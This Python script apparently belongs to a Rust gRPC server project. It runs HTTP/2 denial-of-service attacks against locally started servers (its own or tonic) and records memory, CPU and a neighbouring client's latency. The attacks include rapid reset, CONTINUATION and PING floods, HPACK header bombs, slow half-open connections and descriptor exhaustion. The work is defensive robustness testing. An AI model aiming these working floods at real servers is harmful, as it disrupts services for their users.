#!/usr/bin/env python3
"""Attacks a server as the tests do, but over loopback, and measures what it costs: RELIABILITY.md.

    cargo build --release --features gzip,tls,reflection --example bench_server --example bench_turns
    scripts/attack.py ours|tonic [ATTACK...]

Each attack has a server of its own. While it lasts a neighbour asks for the overall status, one Check after the other. Bounded:
counts are those below, and no attack goes on for longer than LIMIT seconds, or 45 where a server has 30 to act. The good clients of S27
are here for GOOD_SECONDS. Python 3 and Linux, nothing else; the attacks on the door from addresses that are not local need root.
"""

import resource
import select
import socket
import struct
import sys
import time

sys.dont_write_bytecode = True
from peer import (CONTINUATION, DATA, GOAWAY, HEADERS, LIMIT, PING, PREFACE, PRIORITY, RST, SETTINGS, WINDOW, Neighbour, Peer, Server,
                  block, call, connected, frame)
from attacks import door, echo, good, receiving, sending, sockets, timers, turns, untaken


def flood(server, frames, count=1_000_000, before=b""):
    peer = Peer(server, struct.pack(">HI", 4, 65535))
    peer.send(before)
    size, chunk = len(frames), frames * 10_000
    sent = 0
    for _ in range(count // 10_000):
        sent += peer.send(chunk)
        if peer.closed:
            break
    if not peer.closed:
        peer.ping()
    return outcome(peer, f"{sent // size:,} frames taken")


def outcome(peer, detail):
    if peer.code is not None or peer.closed:
        return f"closed, GOAWAY {peer.code}; {detail}"
    return f"not closed; {detail}"


def rapid_reset(server):
    attack = b"".join(frame(HEADERS, 4, s, block("Check")) + frame(RST, 0, s, bytes([0, 0, 0, 8])) for s in range(1, 2001, 2))
    closed = 0
    for _ in range(1000):
        peer = Peer(server)
        peer.send(attack)
        if not peer.closed:
            peer.ping()
        closed += peer.closed or peer.code is not None
        peer.socket.close()
    return f"1,000 connections of 1,000 streams, {closed:,} closed"


def reset_after_accept(server):
    """Calls whose message never comes: accepted, and nothing is answered before they are reset."""
    peer, stream, total = Peer(server), 1, 0
    while total < 100_000 and not peer.closed and peer.code is None:
        streams = range(stream, stream + 100, 2)
        stream += 100
        peer.send(b"".join(frame(HEADERS, 4, s, block("Watch")) for s in streams))
        peer.ping()
        peer.send(b"".join(frame(RST, 0, s, bytes([0, 0, 0, 8])) for s in streams))
        total += len(streams)
    return outcome(peer, f"{total:,} streams")


def made_you_reset(server, attack):
    peer, stream = Peer(server), 1
    for _ in range(20_000):
        resets = peer.frames.get(RST, 0)
        peer.send(attack(stream))
        peer.until(lambda: peer.frames.get(RST, 0) > resets or peer.code)
        if peer.closed or peer.code is not None:
            break
        stream += 2
    return outcome(peer, f"{peer.frames.get(RST, 0):,} resets by the server")


def bomb(server, between=b""):
    """Small blocks that become long lists. `between` two of them come frames for stream 1, which is over."""
    peer, attack = Peer(server), b""
    peer.send(call(1, "Missing"))
    peer.ping()
    for n in range(256):
        entry = b"\x40\x01a\0" if n == 0 else b""
        attack += frame(HEADERS, 4, 3 + 2 * n, block("Check") + entry + bytes([0x80 | 62]) * 220) + between
    peer.send(attack)
    peer.ping()
    return outcome(peer, "256 streams of 220 fields held open")


def continuation(server):
    return flood(server, frame(CONTINUATION, 0, 1, b"\0\x01a\0"), before=frame(HEADERS, 0, 1, block("Check")))


def silent(server):
    said = [b"", PREFACE[:12], PREFACE, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, block("Check"))[:30]]
    peers, opened, start = [], [], time.monotonic()
    for n in range(1000):
        peer = Peer(server, hello=False)
        peer.send(said[n % 4])
        peers.append(peer)
        opened.append(time.monotonic())
    good = time.monotonic()
    peer = Peer(server)
    peer.send(call(1, "Check"))
    peer.until(lambda: peer.frames.get(DATA))
    good = time.monotonic() - good
    peer.socket.close()
    longest = 0
    while time.monotonic() < start + LIMIT and not all(p.closed for p in peers):
        poll, waiting = select.poll(), {p.socket.fileno(): n for n, p in enumerate(peers) if not p.closed}
        for descriptor in waiting:
            poll.register(descriptor, select.POLLIN)
        for descriptor, _ in poll.poll(200):
            n = waiting[descriptor]
            peers[n].receive(0)
            if peers[n].closed:
                longest = max(longest, time.monotonic() - opened[n])
    closed = sum(p.closed for p in peers)
    return f"{closed} of 1,000 closed, each at most {longest:.2f} s after it connected; a new client's Check {good * 1000:.0f} ms"


def unread(server):
    peer = Peer(server, struct.pack(">HI", 4, 0x7fffffff))
    start = time.monotonic()
    sent = peer.send(frame(PING, 0, 0, bytes(8)) * 1_000_000, reading=False)
    return f"{sent // 17:,} PINGs taken, {'closed' if peer.closed else 'not closed'} after {time.monotonic() - start:.1f} s"


def not_taken(server, window, reading):
    """256 Watches on two connections, whose messages find no room: in their windows, or in the socket."""
    peers, streams = [], range(1, 257, 2)
    for _ in range(2):
        peer = Peer(server, struct.pack(">HI", 4, window), receive_buffer=None if reading else 4096)
        peer.send(frame(WINDOW, 0, 0, struct.pack(">I", 0x7fffffff - 65535)))
        peer.send(b"".join(call(s, "Watch") for s in streams))
        peer.until(lambda: peer.frames.get(HEADERS, 0) == len(streams))
        peers.append(peer)
    start, before, grown, ends = time.monotonic(), server.memory("VmRSS"), 0, []
    server.tell("flip 100000 10")
    while time.monotonic() < start + 45 and len(ends) < len(peers):
        for peer in peers:
            if reading and not peer.closed:
                peer.receive(0.05)
        grown = max(grown, server.memory("VmRSS") - before)
        if reading:
            # A stream is ended by trailers behind its head, or by a reset.
            over = [p.frames.get(HEADERS, 0) - len(streams) + p.frames.get(RST, 0) >= len(streams) for p in peers]
            ends += [time.monotonic() - start] * (sum(p.closed or ended for p, ended in zip(peers, over)) - len(ends))
        else:
            time.sleep(0.05)
            left = sum(connected(server, peer) for peer in peers)
            ends += [time.monotonic() - start] * (len(peers) - left - len(ends))
    server.answer()
    over = f"all {'ended' if reading else 'closed'} after {ends[-1]:.1f} s" if len(ends) == len(peers) else "NOT ended in 45 s"
    return f"{over}; RSS +{grown / 1024:.2f} MiB while the status changes 100,000 times"


def panics(server, service):
    peer, ends, stream = Peer(server), [], 3
    peer.send(call(1, "Watch"))
    peer.until(lambda: peer.frames.get(DATA))

    def seen(kind, flags, at, payload):
        if kind == RST:
            ends.append((at, f"RST_STREAM {int.from_bytes(payload, 'big')}"))
        elif kind == HEADERS and flags & 1:
            ends.append((at, "trailers"))

    peer.seen, outcomes, good = seen, {}, 0
    for _ in range(100):
        peer.send(call(stream, "Check", service=service) + call(stream + 2, "Check"))
        peer.until(lambda: {stream, stream + 2} <= {at for at, _ in ends})
        for at, how in ends:
            if at == stream:
                outcomes[how] = outcomes.get(how, 0) + 1
        good += (stream + 2, "trailers") in ends
        lost = [how for at, how in ends if at == 1]
        ends.clear()
        stream += 4
        if peer.closed or lost:
            break
    time.sleep(0.5)
    told = ", ".join(f"{count} × {how}" for how, count in outcomes.items())
    return outcome(peer, f"panics end with {told}; {good} of 100 Checks beside them answered, the Watch {'ended' if lost else 'stays'}")


# What the server is started with.
OPTIONS = {"S15 panic": ["--rash"], "S15 grenade": ["--rash"]}
ATTACKS = {
    "S5 rapid reset": rapid_reset,
    "S5 reset after accept": reset_after_accept,
    "S6 WINDOW_UPDATE overflow": lambda s: made_you_reset(s, lambda n: call(n, "Watch") + frame(WINDOW, 0, n, b"\x7f\xff\xff\xff")),
    "S6 depends on itself": lambda s: made_you_reset(s, lambda n: call(n, "Watch") + frame(PRIORITY, 0, n, struct.pack(">IB", n, 9))),
    "S6 content-length": lambda s: made_you_reset(s, lambda n: call(n, "Check", ("content-length", "3"))),
    "S6 connection header": lambda s: made_you_reset(s, lambda n: call(n, "Check", ("connection", "close"))),
    "S7 CONTINUATION": continuation,
    "S7 header bomb": bomb,
    "S7 header bomb between resets": lambda s: bomb(s, frame(RST, 0, 1, bytes([0, 0, 0, 8]))),
    "S8 no window": lambda s: not_taken(s, 0, True),
    "S8 not read": lambda s: not_taken(s, 0x7fffffff, False),
    "S9 silent": silent,
    "S13 PING": lambda s: flood(s, frame(PING, 0, 0, bytes(8))),
    "S13 SETTINGS, 100 Watches": lambda s: flood(
        s, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)), 500_000,
        b"".join(call(1 + 2 * n, "Watch") for n in range(100))),
    "S13 WINDOW_UPDATE": lambda s: flood(s, frame(WINDOW, 0, 0, bytes([0, 0, 0, 1]))),
    "S13 PRIORITY": lambda s: flood(s, frame(PRIORITY, 0, 1, bytes([0, 0, 0, 3, 9]))),
    "S13 unknown": lambda s: flood(s, frame(0xfa, 0, 0)),
    "S13 PING, nothing read": unread,
    "S15 panic": lambda s: panics(s, "panic"),
    "S15 grenade": lambda s: panics(s, "grenade"),
    **receiving.ATTACKS,
    **sending.ATTACKS,
    **turns.ATTACKS,
    **sockets.ATTACKS,
    **timers.ATTACKS,
    **good.ATTACKS,
    **untaken.ATTACKS,
}
# Attacks on another server than `Server`.
SERVERS = dict.fromkeys([*receiving.ATTACKS, *sending.ATTACKS, *good.ATTACKS], echo.Echo) \
    | dict.fromkeys(turns.ATTACKS, turns.Secured) | sockets.SERVERS | timers.SERVERS | untaken.SERVERS


def descriptors(which):
    server = Server(which, descriptors=64)
    first = Peer(server)
    hoard = [socket.create_connection(server.address) for _ in range(100)]
    time.sleep(2)
    first.send(call(1, "Check"))
    first.until(lambda: first.frames.get(DATA))
    old = bool(first.frames.get(DATA))
    cpu = server.cpu()
    time.sleep(1)
    cpu = server.cpu() - cpu
    for held in hoard:
        held.close()
    start = time.monotonic()
    late = Peer(server)
    late.send(call(1, "Check"))
    late.until(lambda: late.frames.get(DATA))
    took = time.monotonic() - start
    print(f"| S16 64 descriptors | {'an open connection is served' if old else 'an open connection is NOT served'}; "
          f"a new one {took * 1000:.0f} ms after release ({'served' if late.frames.get(DATA) else 'NOT served'}) | | {cpu:.2f} per s | |", flush=True)
    server.end()


def drain(which):
    """Shuts the server down, with its own deadline if it has one, while a peer does not let go."""
    def acknowledge(peer):
        def seen(kind, flags, stream, payload):
            if kind == PING and not flags:
                peer.send(frame(PING, 1, 0, payload), reading=False)
        peer.seen = seen

    for what, greeting, acknowledges in (("a Watch that stays open", call(1, "Watch"), True),
                                         ("a request without its end", call(1, "Check")[:-14], True),
                                         ("no answer to PING", b"", False), ("half a preface", None, False)):
        server = Server(which)
        peer = Peer(server, hello=greeting is not None)
        peer.send(PREFACE[:12] if greeting is None else greeting)
        if acknowledges:
            acknowledge(peer)
        end = time.monotonic() + 0.5
        while time.monotonic() < end:
            peer.receive(0.1)
        start = time.monotonic()
        server.tell("drain")
        while time.monotonic() < start + LIMIT and not server.has_answered():
            if not peer.closed:
                peer.receive(0.01)
            else:
                time.sleep(0.01)
        over = f"over after {time.monotonic() - start:.2f} s" if server.has_answered() else f"NOT over after {LIMIT} s"
        print(f"| S11 drain, {what} | {over} | | | |", flush=True)
        server.end()


def measure(which, name):
    server = SERVERS.get(name, Server)(which, *OPTIONS.get(name, []))
    neighbour = Neighbour(server)
    time.sleep(1)
    (idle, _), rss, cpu = neighbour.take(), server.memory("VmRSS"), server.cpu()
    start = time.monotonic()
    result = ATTACKS[name](server)
    took = time.monotonic() - start
    if server.process.poll() is not None:
        neighbour.end()
        print(f"| {name} | the server's process ENDED with {server.process.returncode}; {took:.1f} s | | | |", flush=True)
        return
    cpu = server.cpu() - cpu
    grown = server.memory("VmHWM") - rss
    under, failed = neighbour.take()
    neighbour.end()
    worst = sorted(under)[len(under) * 99 // 100] * 1000 if under else float("nan")
    base = sorted(idle)[len(idle) * 99 // 100] * 1000
    print(f"| {name} | {result}; {took:.1f} s | {grown / 1024:.1f} | {cpu:.2f} | {len(under)}, {failed} failed, "
          f"p99 {worst:.1f} ms (idle {base:.1f}) |", flush=True)
    server.end()


def main():
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    which, names = (sys.argv[1:] or [""])[0], sys.argv[2:]
    if which not in ("ours", "tonic"):
        sys.exit(__doc__)
    print(f"| {which} | outcome | RSS peak Δ, MiB | CPU, s | neighbour's Checks |\n|---|---|---|---|---|")
    for name in ATTACKS:
        if not names or any(word in name for word in names):
            measure(which, name)
    if not names or "S11" in names:
        drain(which)
    if not names or "S16" in names:
        descriptors(which)
    for name, attack in door.ATTACKS.items():
        if not names or any(word in name for word in names):
            attack(which, name)


if __name__ == "__main__":
    main()
